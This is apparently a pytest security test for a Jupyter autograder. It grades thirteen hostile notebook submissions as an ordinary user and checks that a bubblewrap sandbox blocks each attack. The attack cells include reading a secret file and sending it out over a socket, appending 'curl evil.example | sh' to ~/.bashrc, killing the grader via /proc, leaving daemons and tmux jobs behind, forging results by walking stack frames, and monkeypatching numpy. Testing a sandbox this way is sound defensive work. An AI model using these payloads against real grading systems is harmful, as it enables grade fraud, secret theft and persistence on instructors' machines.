"""The hostile submissions of issues 9 and 19, graded by an instructor WITHOUT root.

One folder of submissions goes through ``python -m w2vgrade grade`` run as an ordinary
user: a throwaway user made with ``useradd`` when the tests run as root (as in CI), else the
user running the tests. That user owns everything an instructor owns on a laptop: a home
folder with a secret and a ``.bashrc``, the exercise sources with their solutions, a
virtual environment and a checks package it can write, a tmux server. Every submission's
functions are blank, so its honest grade is 0; each attack below must leave no trace.
:func:`attack_table` says, row by row, whether the attack was blocked; with bubblewrap every
row must read "blocked". ``python tests/exercises/test_w2vgrade_attacks.py [--isolation
process]`` prints the table (``W2VGRADE_CODE=<checkout>`` grades with that checkout's w2vgrade,
``W2VGRADE_NO_KILLER=1`` leaves out the attack that kills the grader, so that the others can
be read from the results).
"""

from __future__ import annotations

import csv
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

from w2vgrade.generate import student_notebook
from w2vgrade.sandbox import bwrap_problem
from w2vgrade_helpers import FIXTURE_DIR, REPO, file_hashes, fixture_source, notebook, write_notebook

BLANK_COSINE = "def cosine(a, b):\n    return 0.0"
BLANK_SCALE = "def scale(x, factor):\n    return None"

# What each attack tries (the row names of the table), as the code of one notebook cell; T
# holds the paths an attacker would guess or find.
ATTACKS = {
    "run the exercise sources": (
        "import glob, json\n"
        "for path in glob.glob(T['sources'] + '/*.ipynb') + glob.glob(T['repo'] + '/exercises/source/en/*.ipynb'):\n"
        "    for cell in json.load(open(path))['cells']:\n"
        "        if cell['cell_type'] == 'code' and 'self-check' not in cell['metadata'].get('tags', []):\n"
        "            try:\n"
        "                exec(''.join(cell['source']), globals())\n"
        "            except Exception:\n"
        "                pass\n"),
    "read and change another submission": (
        "import json, glob\n"
        "for path in glob.glob(T['subs'] + '/*/ex90_demo.ipynb'):\n"
        "    try:\n"
        "        cells = json.load(open(path))['cells']\n"
        "        exec(''.join(cells[1]['source']), globals())\n"
        "        open(T['subs'] + '/z_victim/ex90_demo.ipynb', 'w').write(open(T['sources'] + '/ex90_demo.ipynb').read())\n"
        "    except Exception:\n"
        "        pass\n"),
    "plant files in the results": (
        "import os\n"
        "for path in (T['results'] + '/evil.txt', T['results'] + '/feedback/evil.md'):\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "        open(path, 'w').write('x')\n"
        "    except OSError:\n"
        "        pass\n"),
    "rewrite a checks module": (
        "try:\n"
        "    open(T['checks'] + '/ex91.py', 'w').write(\n"
        "        'from w2vgrade.api import Question\\n'\n"
        "        'QUESTIONS = [Question(\"q1\", \"cosine\", 2, lambda fn: None), Question(\"q2\", \"scale\", 3, lambda fn: None)]\\n')\n"
        "except OSError:\n"
        "    pass\n"),
    "plant a .pth in the venv": (
        "import site, sys\n"
        "for folder in site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if 'site-packages' in p]:\n"
        "    try:\n"
        "        open(folder + '/zz_evil.pth', 'w').write(f\"import os; open({T['marker_file']!r}, 'w')\\n\")\n"
        "    except OSError:\n"
        "        pass\n"),
    "send the secret through its feedback": (
        "def scale(x, factor):\n"
        "    raise ValueError(open(T['home'] + '/secret.txt').read())\n"),
    "send the secret over a loopback socket": (
        "import socket\n"
        "try:\n"
        "    secret = open(T['home'] + '/secret.txt').read()\n"
        "except OSError:\n"
        "    secret = 'no secret, but a connection'\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', T['port']), timeout=2).sendall(secret.encode())\n"
        "except OSError:\n"
        "    pass\n"),
    "append to ~/.bashrc": (
        "try:\n"
        "    open(T['home'] + '/.bashrc', 'a').write('curl evil.example | sh\\n')\n"
        "except OSError:\n"
        "    pass\n"),
    "outlive the grading through tmux": (
        "import subprocess\n"
        "command = f\"sleep 4; echo 'mallory,ex90,ex90_demo.ipynb,en,ok,2,3,5,5,' >> {T['results']}/grades.csv; \"\n"
        "command += f\"touch {T['marker_file']}.tmux\"\n"
        "for arguments in (['tmux', 'new-window', '-d', command], ['tmux', '-S', T['tmux'], 'new-window', '-d', command]):\n"
        "    try:\n"
        "        subprocess.run(arguments, timeout=5, capture_output=True)\n"
        "    except Exception:\n"
        "        pass\n"),
    "kill the grader and leave its own grades.csv": (
        "import os, signal\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        if b'w2vgrade' in open(f'/proc/{pid}/cmdline', 'rb').read() and int(pid) != os.getpid():\n"
        "            open(T['results'] + '/grades.csv', 'w').write('student,total\\nmallory,100\\n')\n"
        "            os.kill(int(pid), signal.SIGKILL)\n"
        "    except (OSError, ValueError):\n"
        "        pass\n"),
    "forge a result (stack walk, BaseException)": (
        "def cosine(a, b):\n"
        "    import sys\n"
        "    frame = sys._getframe()\n"
        "    while frame is not None:\n"
        "        frame.f_locals.update(fraction=1.0, status='pass')\n"
        "        frame = frame.f_back\n"
        "    sys.__stdout__.write('{\"value\": 1.0, \"fraction\": 1.0}\\n')\n"
        "    class Escape(BaseException):\n"
        "        pass\n"
        "    raise Escape()\n"),
    "patch numpy and json for the checks": (
        "import numpy, json\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "numpy.array_equal = lambda *a, **k: True\n"
        "json.dumps = lambda *a, **k: '{\"value\": 1.0}'\n"),
    "leave a daemon behind": (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv('/bin/sh', ['sh', '-c', f\"sleep 3; echo hacked >> {T['results']}/grades.csv; sleep 60 # {T['marker_file']}\"])\n"
        "    os._exit(0)\n"
        "time.sleep(0.5)\n"),
}


KILLER = list(ATTACKS).index("kill the grader and leave its own grades.csv")


def _student(index: int) -> str:
    """The attacker's folder name; the one that kills the grader is graded last."""
    return "zz_killer" if index == KILLER else f"m{index:02d}"


def _alive(marker: str) -> bool:
    for entry in Path("/proc").iterdir():
        try:
            if marker in entry.joinpath("cmdline").read_bytes().decode(errors="replace"):
                return True
        except OSError:
            continue
    return False


def _user_python(run_as) -> str | None:
    """An interpreter of this Python version that the grading user may run (this one may
    live in root's home, e.g. pyenv)."""
    version = f"{sys.version_info[0]}.{sys.version_info[1]}"
    probe = (f"import subprocess, sys; assert sys.version.startswith('{version}'); "
             "subprocess.run([sys.executable, '-c', 'import json'], check=True)")
    for candidate in (f"/usr/bin/python{version}", f"/usr/local/bin/python{version}", shutil.which(f"python{version}"),
                      str(Path(sys.executable).resolve())):
        if candidate and os.path.exists(candidate) and subprocess.run(
                run_as + [candidate, "-c", probe], capture_output=True, cwd="/").returncode == 0:
            return candidate
    return None


class Instructor:
    """An ordinary user with a home folder, sources, a venv and checks it can write."""

    def __init__(self, root: Path):
        self.root, self.name, self.run_as = root, None, []
        if os.geteuid() == 0:
            if not (shutil.which("useradd") and shutil.which("setpriv")):
                pytest.skip("running as root without useradd and setpriv: cannot grade as an ordinary user")
            self.name = f"w2vg{uuid.uuid4().hex[:8]}"
            self.home = root / "home"
            subprocess.run(["useradd", "--home-dir", str(self.home), "--create-home", "--shell", "/bin/sh",
                            "--no-user-group", "--gid", "65534", self.name], check=True, capture_output=True)
            entry = pwd.getpwnam(self.name)
            self.uid = entry.pw_uid
            self.run_as = ["setpriv", f"--reuid={entry.pw_uid}", f"--regid={entry.pw_gid}", "--clear-groups"]
        else:
            self.home, self.uid = root / "home", os.geteuid()
            self.home.mkdir()
        self.python = _user_python(self.run_as)
        if self.python is None:
            self.remove()
            pytest.skip(f"no Python {sys.version_info[0]}.{sys.version_info[1]} that the grading user may run")

    def own(self, path: Path) -> None:
        if self.name:
            subprocess.run(["chown", "-R", f"{self.uid}:65534", str(path)], check=True)

    def run(self, arguments, **options):
        return subprocess.Popen(self.run_as + arguments, **options)

    def processes(self) -> list[int]:
        found = []
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and entry.stat().st_uid == self.uid and self.name:
                    found.append(int(entry.name))
            except OSError:
                continue
        return found

    def remove(self) -> None:
        if self.name:
            for pid in self.processes():  # only the throwaway user's processes
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
            subprocess.run(["userdel", self.name], capture_output=True)
        shutil.rmtree(self.root, ignore_errors=True)


def prepare(instructor: Instructor, port: int):
    """The instructor's files and the submissions; returns the paths the attacks aim at."""
    home = instructor.home
    marker = uuid.uuid4().hex
    (home / "secret.txt").write_text(f"secret-{marker}\n")
    (home / ".bashrc").write_text("# the instructor's shell\n")
    sources = home / "course" / "exercises" / "source" / "en"
    write_notebook(fixture_source(), sources / "ex90_demo.ipynb")
    checks = home / "checks" / "fixture_checks"
    shutil.copytree(FIXTURE_DIR / "fixture_checks", checks, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(checks / "ex90.py", checks / "ex91.py")
    venv = home / "venv"
    site_packages = next(path for path in sys.path if path.endswith("site-packages") and Path(path).is_dir())
    if os.environ.get("W2VGRADE_CODE"):  # another checkout with its own .venv, to compare (see __main__)
        site_packages = str(next(Path(os.environ["W2VGRADE_CODE"]).glob(".venv/lib/python*/site-packages")))
    subs, results = home / "submissions", home / "results"
    targets = {"home": str(home), "sources": str(sources), "checks": str(checks), "repo": str(REPO),
               "subs": str(subs), "results": str(results), "port": port, "tmux": str(home / "tmux.sock"),
               "marker_file": str(home / f"pwned-{marker}")}
    write_notebook(fixture_source(), subs / "alice" / "ex90_demo.ipynb")
    write_notebook(student_notebook(fixture_source(), "en", "ex90_demo.ipynb"), subs / "z_victim" / "ex90_demo.ipynb")
    write_notebook(notebook(["import numpy as np\nLANG = 'en'", BLANK_COSINE, BLANK_SCALE], exercise="ex91"),
                   subs / "z_victim" / "ex91_demo.ipynb")
    for index, (row, source) in enumerate(ATTACKS.items()):
        if index == KILLER and os.environ.get("W2VGRADE_NO_KILLER"):
            continue
        built = notebook(["import numpy as np\nLANG = 'en'", BLANK_COSINE, BLANK_SCALE, f"T = {targets!r}\n" + source])
        write_notebook(built, subs / _student(index) / "ex90_demo.ipynb")
    instructor.own(home)
    subprocess.run(instructor.run_as + [instructor.python, "-m", "venv", "--without-pip", str(venv)], check=True)
    user_site = next(venv.glob("lib/python*/site-packages"))
    (user_site / "course.pth").write_text(f"import site; site.addsitedir({site_packages!r})\n")
    instructor.own(user_site / "course.pth")
    tmux = shutil.which("tmux")
    if tmux:
        subprocess.run(instructor.run_as + [tmux, "-S", targets["tmux"], "new-session", "-d", "sleep 600"],
                       env=_environment(home), check=True)
    return targets, venv / "bin" / "python"


def _environment(home: Path) -> dict:
    return {"PATH": os.defpath, "HOME": str(home), "LANG": "C.UTF-8", "PYTHONPATH": str(home / "checks")}


def _site_files(venv_python: Path) -> set:
    site = next(venv_python.parent.parent.glob("lib/python*/site-packages"))
    return {path.name for path in site.iterdir()}


def attack_table(root: Path, isolation: str = "auto") -> tuple[dict, str]:
    """Grade the attacks as an ordinary user; ``({row: blocked?}, what the grader printed)``."""
    instructor = Instructor(root)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    try:
        targets, python = prepare(instructor, listener.getsockname()[1])
        home, subs, results = Path(targets["home"]), Path(targets["subs"]), Path(targets["results"])
        before, site_before = file_hashes(subs), _site_files(python)
        options = ["--isolation", isolation] if isolation != "auto" else []
        grader = instructor.run([str(python), "-m", "w2vgrade", "grade", str(subs), "--out", str(results),
                                 "--jobs", "1", "--timeout-cell", "10", "--timeout-total", "30",
                                 "--checks-package", "fixture_checks", *options],
                                cwd=str(home), env=_environment(home), stderr=subprocess.PIPE, text=True)
        _, said = grader.communicate(timeout=600)
        csv_text = (results / "grades.csv").read_text() if (results / "grades.csv").exists() else ""
        time.sleep(5)  # a process left behind would act by now
        rows = {(row.get("student"), row.get("exercise")): row for row in csv.DictReader(csv_text.splitlines())}
        everything = "\n".join(path.read_text(errors="replace") for path in results.rglob("*") if path.is_file())
        accepted = []
        try:
            accepted.append(listener.accept())
        except BlockingIOError:
            pass
        secret = (home / "secret.txt").read_text().strip()
        final = (results / "grades.csv").read_text(errors="replace") if (results / "grades.csv").exists() else ""
        names = list(ATTACKS)
        table = {
            names[0]: all(rows.get((_student(i), "ex90"), {}).get("total") == "0" for i in range(len(names)))
            and grader.returncode == 0,
            names[1]: file_hashes(subs) == before and rows.get(("z_victim", "ex90"), {}).get("total") == "0",
            names[2]: not (results / "evil.txt").exists() and not (results / "feedback" / "evil.md").exists(),
            names[3]: rows.get(("z_victim", "ex91"), {}).get("total") == "0",
            names[4]: _site_files(python) == site_before and not Path(targets["marker_file"]).exists(),
            names[5]: secret not in everything,
            names[6]: not accepted,
            names[7]: (home / ".bashrc").read_text() == "# the instructor's shell\n",
            names[8]: "mallory" not in final
            and not Path(targets["marker_file"] + ".tmux").exists(),
            names[9]: grader.returncode == 0 and csv_text.startswith("student,exercise")
            and final == csv_text,
            names[10]: rows.get(("m10", "ex90"), {}).get("q1") == "0" and "_getframe" in rows.get(("m10", "ex90"), {}).get("review", ""),
            names[11]: rows.get(("m11", "ex90"), {}).get("total") == "0",
            names[12]: not _alive(targets["marker_file"]) and "hacked" not in final,
        }
        return table, said
    finally:
        listener.close()
        instructor.remove()


@pytest.mark.skipif(bool(bwrap_problem()), reason=f"no bubblewrap sandbox here: {bwrap_problem()}")
def test_every_attack_is_blocked_when_an_ordinary_user_grades():
    root = Path(tempfile.mkdtemp(prefix="w2vgrade-attacks-"))
    os.chmod(root, 0o755)
    table, said = attack_table(root)
    assert said.startswith("isolation: bwrap"), said
    assert {row: "blocked" if blocked else "NOT blocked" for row, blocked in table.items()} == {
        row: "blocked" for row in ATTACKS}, said


if __name__ == "__main__":
    isolation = sys.argv[sys.argv.index("--isolation") + 1] if "--isolation" in sys.argv else "auto"
    directory = Path(tempfile.mkdtemp(prefix="w2vgrade-attacks-"))
    os.chmod(directory, 0o755)
    result, printed = attack_table(directory, isolation)
    print(printed.splitlines()[0] if printed else "(the grader printed nothing)")
    for name, blocked in result.items():
        print(f"| {name} | {'blocked' if blocked else 'NOT blocked'} |")
